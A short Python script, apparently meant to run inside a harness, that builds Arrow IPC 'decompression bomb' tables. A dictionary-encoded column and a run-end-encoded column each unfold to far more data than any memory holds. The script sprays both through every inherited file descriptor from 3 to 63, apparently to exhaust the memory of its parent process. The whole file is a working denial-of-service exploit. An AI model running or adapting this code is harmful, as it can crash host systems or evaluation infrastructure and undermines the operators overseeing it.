# seeks: parent
# A dictionary of one long text and many numbers that name it: unfolded, it is larger than any memory.
import socket
import struct

import numpy as np
import pyarrow as pa


def model(tg):
    numbers = pa.array(np.zeros(1 << 20, dtype=np.int8))
    column = pa.DictionaryArray.from_arrays(numbers, pa.array(["x" * (1 << 20)]))
    ends = pa.array([1 << 30], pa.int32())
    runs = pa.RunEndEncodedArray.from_arrays(ends, pa.array(["y" * 1000]))
    header = b'{"kind": "arrow"}'
    for table in (pa.table({"got": column}), pa.table({"got": runs})):
        sink = pa.BufferOutputStream()
        with pa.ipc.new_stream(sink, table.schema) as writer:
            writer.write_table(table)
        body = sink.getvalue().to_pybytes()
        for number in range(3, 64):
            try:
                link = socket.socket(fileno=number)
                link.sendall(struct.pack("!BIQ", 7, 2, len(body)) + b"{}" + body)
                link.sendall(struct.pack("!BIQ", 8, len(header), 0) + header)
                link.detach()
            except OSError:
                pass
        return
